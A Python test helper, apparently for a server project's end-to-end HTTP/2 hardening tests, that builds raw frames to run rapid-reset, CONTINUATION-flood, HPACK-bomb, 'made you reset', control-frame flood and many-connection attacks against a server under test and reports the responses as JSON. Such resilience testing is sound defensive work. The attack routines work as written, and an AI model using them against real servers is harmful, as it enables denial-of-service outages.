#!/usr/bin/python3
"""HTTP/2 attacks for kakehi's end-to-end tests (tests/http2_attacks.rs), on Debian's python3-h2.

Run with /usr/bin/python3 (its hpack module comes with Debian's python3-h2). Usage:

    attacks.py HOST PORT ATTACK [ARGS...]

Every attack is sent as raw frames over a socket (h2c prior knowledge), built here: h2's
state machine refuses to send most of them (zero window increments, CONTINUATION floods,
frames on reset streams, an HPACK block referencing one entry thousands of times), and a
hand-made header block is exactly what is meant. hpack decodes the server's responses. The
frames go out as fast as the socket takes them, while a reader thread parses every frame the
server sends back. The script prints one JSON object on stdout; the Rust
test asserts on it. Every wait is bounded (socket timeouts, an overall deadline).

Attacks:

    rapid_reset N AUTHORITY PATH     N x (HEADERS GET with END_STREAM, RST_STREAM CANCEL).
    ping N                           N PING frames.
    settings N                       N empty SETTINGS frames (after the preface's own).
    priority N                       N PRIORITY frames (on idle streams, depending on 0).
    empty_data N AUTHORITY           HEADERS POST /upload without END_STREAM, then N empty DATA
                                     frames without END_STREAM on it.
    continuation N AUTHORITY         HEADERS without END_HEADERS, then N CONTINUATION frames of
                                     16 octets (the last one with END_HEADERS).
    continuation_big KIB AUTHORITY   one header block of KIB KiB over HEADERS + CONTINUATIONs
                                     of 12,000 octets each.
    made_you_reset N MODE AUTHORITY  N x (HEADERS POST without END_STREAM, then a frame that
                                     makes the server reset the stream): MODE wu0 is a
                                     WINDOW_UPDATE of increment 0 on it, MODE cl is DATA of 2
                                     octets with END_STREAM under content-length: 1.
    hpack_bomb TIMES REFS AUTHORITY  TIMES header blocks, each inserting a 4,000-octet field in
                                     the dynamic table and referencing it REFS more times; then
                                     a GET /after-bomb on the same connection.
    many_conns C S AUTHORITY PATH    C connections, each opening S streams (GET PATH) at once;
                                     every stream followed until answered or reset.

The JSON object of one-connection attacks: {"attack", "planned_bytes", "sent_bytes",
"send_error", "goaway": null or {"error_code", "last_stream_id", "debug"}, "closed", "close_how"
("eof" or the socket error), "frames" (count per frame type received), "rst" (count per
RST_STREAM error code), "streams" ({id: {"status", "ended", "reset", "body"}}), "elapsed"}.
many_conns prints totals instead (see scenario_many_conns).
"""

import json
import selectors
import socket
import struct
import sys
import threading
import time

import hpack

IO_TIMEOUT = 10.0
DEADLINE = 45.0
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
NAMES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING",
         "GOAWAY", "WINDOW_UPDATE", "CONTINUATION"]
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8


def fail(msg):
    sys.stderr.write("attacks: " + msg + "\n")
    sys.exit(1)


# ---- frames out ---------------------------------------------------------------------------


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) \
        + struct.pack(">I", stream & 0x7FFFFFFF) + payload


def settings(pairs=()):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def rst(stream, code):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", code))


def window_update(stream, increment):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", increment))


def hpack_int(value, prefix_bits, first):
    """An HPACK integer (RFC 7541 §5.1) with the high bits `first` in its first octet."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(data):
    """A string literal without Huffman coding."""
    return hpack_int(len(data), 7, 0) + data


def literal(name_index, value, first=0x00, prefix=4):
    """A literal field with an indexed name; without indexing unless told."""
    return hpack_int(name_index, prefix, first) + hpack_str(value)


def literal_new(name, value, first=0x00):
    """A literal field with a new name: 0x00 without indexing, 0x40 with incremental indexing."""
    return bytes([first]) + hpack_str(name) + hpack_str(value)


def request_block(method, authority, path, extra=()):
    """A request header block that leaves the dynamic table alone: static indexes and literals
    without indexing only (so blocks may be sent in any number and order)."""
    out = bytearray()
    out += {"GET": b"\x82", "POST": b"\x83"}[method]
    out += b"\x86"                                     # :scheme http
    out += literal(4, path.encode())                   # :path
    out += literal(1, authority.encode())              # :authority
    out += literal(58, b"kakehi-h2-attack")            # user-agent
    for name, value in extra:
        out += literal_new(name.encode(), value.encode())
    return bytes(out)


# ---- frames in ----------------------------------------------------------------------------


class Reader:
    """Reads and parses every frame the server sends on `sock`, on a thread of its own."""

    def __init__(self, sock):
        self.sock = sock
        self.deadline = time.monotonic() + DEADLINE
        self.buf = bytearray()
        self.frames = {}
        self.rst = {}
        self.goaway = None
        self.closed = False
        self.close_how = None
        self.settings_seen = threading.Event()
        self.decoder = hpack.Decoder()
        self.streams = {}
        self.block = None
        self.lock = threading.Lock()
        self.done = threading.Event()
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def stream(self, sid):
        return self.streams.setdefault(sid, {"status": None, "ended": False, "reset": None,
                                             "body": ""})

    def run(self):
        try:
            while True:
                try:
                    data = self.sock.recv(65536)
                except socket.timeout:
                    if time.monotonic() > self.deadline:
                        self.close_how = "deadline"
                        break
                    continue
                except OSError as e:
                    self.close_how = type(e).__name__
                    break
                if not data:
                    self.close_how = "eof"
                    break
                with self.lock:
                    self.buf += data
                    self.parse()
        finally:
            self.closed = self.close_how in ("eof", "ConnectionResetError", "BrokenPipeError")
            self.done.set()
            self.settings_seen.set()

    def parse(self):
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[0:3], "big")
            if len(self.buf) < 9 + length:
                return
            kind, flags = self.buf[3], self.buf[4]
            sid = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = bytes(self.buf[9:9 + length])
            del self.buf[:9 + length]
            self.on_frame(kind, flags, sid, payload)

    def on_frame(self, kind, flags, sid, payload):
        name = NAMES[kind] if kind < len(NAMES) else "UNKNOWN_%d" % kind
        self.frames[name] = self.frames.get(name, 0) + 1
        if kind == SETTINGS and not flags & ACK:
            self.settings_seen.set()
        elif kind == GOAWAY and self.goaway is None:
            last, code = struct.unpack(">II", payload[:8])
            self.goaway = {"error_code": code, "last_stream_id": last & 0x7FFFFFFF,
                           "debug": payload[8:].decode("utf-8", "replace")}
        elif kind == RST_STREAM:
            code = struct.unpack(">I", payload[:4])[0]
            self.rst[str(code)] = self.rst.get(str(code), 0) + 1
            self.stream(sid)["reset"] = code
        elif kind in (HEADERS, CONTINUATION):
            if kind == HEADERS:
                pad = payload[0] if flags & 0x8 else 0
                start = 1 if flags & 0x8 else 0
                if flags & 0x20:
                    start += 5
                fragment = payload[start:len(payload) - pad]
                self.block = (sid, bool(flags & END_STREAM), bytearray(fragment))
            elif self.block is not None:
                self.block[2].extend(payload)
            if flags & END_HEADERS and self.block is not None:
                bsid, end, block = self.block
                self.block = None
                s = self.stream(bsid)
                for n, v in self.decoder.decode(bytes(block), raw=True):
                    if n == b":status" and s["status"] is None:
                        s["status"] = int(v)
                if end:
                    s["ended"] = True
        elif kind == DATA:
            pad = payload[0] if flags & 0x8 else 0
            body = payload[(1 if flags & 0x8 else 0):len(payload) - pad]
            s = self.stream(sid)
            if len(s["body"]) < 4096:
                s["body"] += body.decode("utf-8", "replace")
            if flags & END_STREAM:
                s["ended"] = True

    def wait(self, cond, timeout):
        end = time.monotonic() + timeout
        while time.monotonic() < end:
            with self.lock:
                if cond():
                    return True
            if self.done.is_set():
                with self.lock:
                    return cond()
            time.sleep(0.005)
        return False


class Attack:
    """One h2c connection, its reader, and what was sent."""

    def __init__(self, host, port, name):
        self.name = name
        self.t0 = time.monotonic()
        sock = socket.create_connection((host, port), timeout=IO_TIMEOUT)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock = sock
        self.planned = 0
        self.sent = 0
        self.send_error = None
        self.send(PREFACE + settings())
        self.reader = Reader(sock)
        if not self.reader.settings_seen.wait(IO_TIMEOUT):
            fail("no SETTINGS from the server in %ss" % IO_TIMEOUT)

    def send(self, data):
        """Sends `data` as fast as the socket takes it; stops at the first error."""
        self.planned += len(data)
        if self.send_error is not None:
            return False
        view = memoryview(data)
        while view:
            try:
                n = self.sock.send(view[:65536])
            except OSError as e:
                self.send_error = type(e).__name__
                return False
            self.sent += n
            view = view[n:]
        return True

    def wait_closed(self, timeout=IO_TIMEOUT):
        self.reader.wait(lambda: self.reader.closed, timeout)

    def report(self, extra=None):
        r = self.reader
        with r.lock:
            out = {
                "attack": self.name,
                "planned_bytes": self.planned,
                "sent_bytes": self.sent,
                "send_error": self.send_error,
                "goaway": r.goaway,
                "closed": r.closed,
                "close_how": r.close_how,
                "frames": dict(r.frames),
                "rst": dict(r.rst),
                "streams": {str(k): v for k, v in sorted(r.streams.items())},
                "elapsed": time.monotonic() - self.t0,
            }
        if extra:
            out.update(extra)
        return out

    def finish(self, extra=None):
        out = self.report(extra)
        try:
            self.sock.close()
        except OSError:
            pass
        sys.stdout.write(json.dumps(out) + "\n")


# ---- attacks ------------------------------------------------------------------------------


def attack_rapid_reset(a, args):
    n, authority, path = int(args[0]), args[1], args[2]
    blob = bytearray()
    for i in range(n):
        sid = 1 + 2 * i
        block = request_block("GET", authority, "%s%d" % (path, i))
        blob += frame(HEADERS, END_STREAM | END_HEADERS, sid, block)
        blob += rst(sid, CANCEL)
    a.send(bytes(blob))
    a.wait_closed()
    a.finish({"streams_opened": n, "last_stream_sent": 2 * n - 1})


def attack_ping(a, args):
    n = int(args[0])
    a.send(b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(n)))
    a.wait_closed()
    a.finish()


def attack_settings(a, args):
    n = int(args[0])
    a.send(settings() * n)
    a.wait_closed()
    a.finish()


def attack_priority(a, args):
    n = int(args[0])
    blob = bytearray()
    for i in range(n):
        # Exclusive bit clear, dependency 0, weight 16: on idle streams 1, 3, 5...
        blob += frame(PRIORITY, 0, 1 + 2 * (i % 10000), struct.pack(">IB", 0, 15))
    a.send(bytes(blob))
    a.wait_closed()
    a.finish()


def attack_empty_data(a, args):
    n, authority = int(args[0]), args[1]
    block = request_block("POST", authority, "/upload",
                          [("content-type", "application/octet-stream")])
    a.send(frame(HEADERS, END_HEADERS, 1, block))
    a.send(frame(DATA, 0, 1) * n)
    a.wait_closed()
    a.finish()


def attack_continuation(a, args):
    n, authority = int(args[0]), args[1]
    block = request_block("GET", authority, "/continued",
                          [("x-pad", "p" * (16 * n))])
    first, rest = block[:16], block[16:]
    a.send(frame(HEADERS, END_STREAM, 1, first))
    pieces = [rest[i:i + 16] for i in range(0, len(rest), 16)][:n]
    blob = bytearray()
    for i, piece in enumerate(pieces):
        blob += frame(CONTINUATION, END_HEADERS if i == len(pieces) - 1 else 0, 1, piece)
    a.send(bytes(blob))
    a.wait_closed()
    a.finish({"continuations": len(pieces)})


def attack_continuation_big(a, args):
    kib, authority = int(args[0]), args[1]
    size = kib * 1024
    block = request_block("GET", authority, "/big-block", [("x-big", "b" * size)])
    step = 12000
    pieces = [block[i:i + step] for i in range(0, len(block), step)]
    blob = bytearray(frame(HEADERS, END_STREAM, 1, pieces[0]))
    for i, piece in enumerate(pieces[1:], 1):
        blob += frame(CONTINUATION, END_HEADERS if i == len(pieces) - 1 else 0, 1, piece)
    a.send(bytes(blob))
    a.wait_closed()
    a.finish({"block_bytes": len(block), "continuations": len(pieces) - 1})


def attack_made_you_reset(a, args):
    n, mode, authority = int(args[0]), args[1], args[2]
    blob = bytearray()
    for i in range(n):
        sid = 1 + 2 * i
        if mode == "wu0":
            block = request_block("POST", authority, "/myr%d" % i)
            blob += frame(HEADERS, END_HEADERS, sid, block)
            blob += window_update(sid, 0)
        elif mode == "cl":
            block = request_block("POST", authority, "/myr%d" % i, [("content-length", "1")])
            blob += frame(HEADERS, END_HEADERS, sid, block)
            blob += frame(DATA, END_STREAM, sid, b"xx")
        else:
            fail("unknown made_you_reset mode " + mode)
    a.send(bytes(blob))
    a.wait_closed()
    a.finish({"streams_opened": n, "last_stream_sent": 2 * n - 1})


def attack_hpack_bomb(a, args):
    times, refs, authority = int(args[0]), int(args[1]), args[2]
    big = b"z" * 4000
    for i in range(times):
        sid = 1 + 2 * i
        block = bytearray(request_block("GET", authority, "/bomb%d" % i))
        # Into the dynamic table (4000 + 6 + 32 = 4038 octets of 4096: it evicts the one
        # before), then index 62, the newest entry, REFS times: a few KiB on the wire, REFS x
        # 4 KB decoded.
        block += literal_new(b"x-bomb", big, first=0x40)
        block += b"\xbe" * refs
        a.send(frame(HEADERS, END_STREAM | END_HEADERS, sid, bytes(block)))
        # One at a time: each bomb answered before the next.
        a.reader.wait(lambda: a.reader.streams.get(sid, {}).get("reset") is not None
                      or a.reader.streams.get(sid, {}).get("ended") or a.reader.closed,
                      IO_TIMEOUT)
    after = 1 + 2 * times
    a.send(frame(HEADERS, END_STREAM | END_HEADERS, after,
                 request_block("GET", authority, "/after-bomb")))
    a.reader.wait(lambda: a.reader.streams.get(after, {}).get("ended")
                  or a.reader.streams.get(after, {}).get("reset") is not None
                  or a.reader.closed, IO_TIMEOUT)
    # A polite close: GOAWAY(NO_ERROR), then FIN.
    a.send(frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0)))
    a.finish({"block_bytes": len(block), "after_stream": after})


def scenario_many_conns(host, port, args):
    """C connections x S streams of GET PATH at once. Prints {"connections", "streams",
    "ok" (200 and END_STREAM), "refused" (RST_STREAM REFUSED_STREAM), "rst" (per code),
    "statuses" (per status), "goaways" (per error code), "unfinished", "closed_early",
    "elapsed"}."""
    c, s, authority, path = int(args[0]), int(args[1]), args[2], args[3]
    t0 = time.monotonic()
    sel = selectors.DefaultSelector()
    conns = []

    def done(conn):
        return conn["closed"] or sum(1 for v in conn["streams"].values() if v["done"]) >= s

    def st(conn, sid):
        return conn["streams"].setdefault(sid, {"status": None, "done": False, "reset": None})

    def on_frame(conn, kind, flags, sid, payload):
        if kind == GOAWAY and conn["goaway"] is None:
            conn["goaway"] = struct.unpack(">II", payload[:8])[1]
        elif kind == RST_STREAM:
            x = st(conn, sid)
            x["reset"] = struct.unpack(">I", payload[:4])[0]
            x["done"] = True
        elif kind in (HEADERS, CONTINUATION):
            if kind == HEADERS:
                pad = payload[0] if flags & 0x8 else 0
                start = (1 if flags & 0x8 else 0) + (5 if flags & 0x20 else 0)
                conn["block"] = (sid, bool(flags & END_STREAM),
                                 bytearray(payload[start:len(payload) - pad]))
            elif conn["block"] is not None:
                conn["block"][2].extend(payload)
            if flags & END_HEADERS and conn["block"] is not None:
                bsid, end, block = conn["block"]
                conn["block"] = None
                x = st(conn, bsid)
                for n, v in conn["dec"].decode(bytes(block), raw=True):
                    if n == b":status" and x["status"] is None:
                        x["status"] = int(v)
                if end:
                    x["done"] = True
        elif kind == DATA and flags & END_STREAM:
            st(conn, sid)["done"] = True
        elif kind == SETTINGS and not flags & ACK:
            conn["settings"] = True

    def read_frames(conn):
        """One recv on `conn`, its whole frames handled; False when nothing came."""
        try:
            data = conn["sock"].recv(65536)
        except BlockingIOError:
            return False
        except OSError:
            data = b""
        if not data:
            conn["closed"] = True
            return False
        conn["buf"] += data
        buf = conn["buf"]
        while len(buf) >= 9:
            length = int.from_bytes(buf[0:3], "big")
            if len(buf) < 9 + length:
                break
            kind, flags = buf[3], buf[4]
            sid = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
            payload = bytes(buf[9:9 + length])
            del buf[:9 + length]
            on_frame(conn, kind, flags, sid, payload)
        return True

    # Every connection up first (the preface both ways), so that the streams, not the
    # connections, are what runs into the worker's limits.
    for i in range(c):
        sock = socket.create_connection((host, port), timeout=IO_TIMEOUT)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sock.sendall(PREFACE + settings())
        conn = {"sock": sock, "buf": bytearray(), "dec": hpack.Decoder(), "streams": {},
                "goaway": None, "closed": False, "block": None, "settings": False}
        conns.append(conn)
    for conn in conns:
        while not conn["settings"] and not conn["closed"]:
            read_frames(conn)
    connected = sum(1 for k in conns if k["settings"])
    for i, conn in enumerate(conns):
        if conn["closed"]:
            continue
        blob = bytearray()
        for j in range(s):
            block = request_block("GET", authority, "%s?c=%d&s=%d" % (path, i, j))
            blob += frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * j, block)
        conn["sock"].sendall(bytes(blob))
    t_sent = time.monotonic() - t0
    for conn in conns:
        conn["sock"].setblocking(False)
        if not conn["closed"]:
            sel.register(conn["sock"], selectors.EVENT_READ, conn)

    while time.monotonic() - t0 < DEADLINE and not all(done(k) for k in conns):
        for key, _ in sel.select(timeout=1.0):
            conn = key.data
            read_frames(conn)
            if conn["closed"]:
                sel.unregister(conn["sock"])
    ok = refused = unfinished = closed_early = 0
    rsts, statuses, goaways = {}, {}, {}
    for conn in conns:
        for sid in range(1, 2 * s, 2):
            x = conn["streams"].get(sid)
            if x is None or not x["done"]:
                unfinished += 1
                continue
            if x["reset"] is not None:
                rsts[str(x["reset"])] = rsts.get(str(x["reset"]), 0) + 1
                if x["reset"] == 0x7:
                    refused += 1
            elif x["status"] == 200:
                ok += 1
            if x["status"] is not None:
                statuses[str(x["status"])] = statuses.get(str(x["status"]), 0) + 1
        if conn["goaway"] is not None:
            goaways[str(conn["goaway"])] = goaways.get(str(conn["goaway"]), 0) + 1
        if conn["closed"] and not done(dict(conn, closed=False)):
            closed_early += 1
        try:
            conn["sock"].close()
        except OSError:
            pass
    out = {"connections": c, "connected": connected, "requests_sent_secs": t_sent,
           "streams": c * s, "ok": ok, "refused": refused, "rst": rsts,
           "statuses": statuses, "goaways": goaways, "unfinished": unfinished,
           "closed_early": closed_early, "elapsed": time.monotonic() - t0}
    sys.stdout.write(json.dumps(out) + "\n")


ATTACKS = {
    "rapid_reset": attack_rapid_reset,
    "ping": attack_ping,
    "settings": attack_settings,
    "priority": attack_priority,
    "empty_data": attack_empty_data,
    "continuation": attack_continuation,
    "continuation_big": attack_continuation_big,
    "made_you_reset": attack_made_you_reset,
    "hpack_bomb": attack_hpack_bomb,
}


def main(argv):
    if len(argv) < 3:
        fail(__doc__)
    host, port, name = argv[0], int(argv[1]), argv[2]
    if name == "many_conns":
        return scenario_many_conns(host, port, argv[3:])
    if name not in ATTACKS:
        fail(__doc__)
    a = Attack(host, port, name)
    ATTACKS[name](a, argv[3:])


if __name__ == "__main__":
    main(sys.argv[1:])
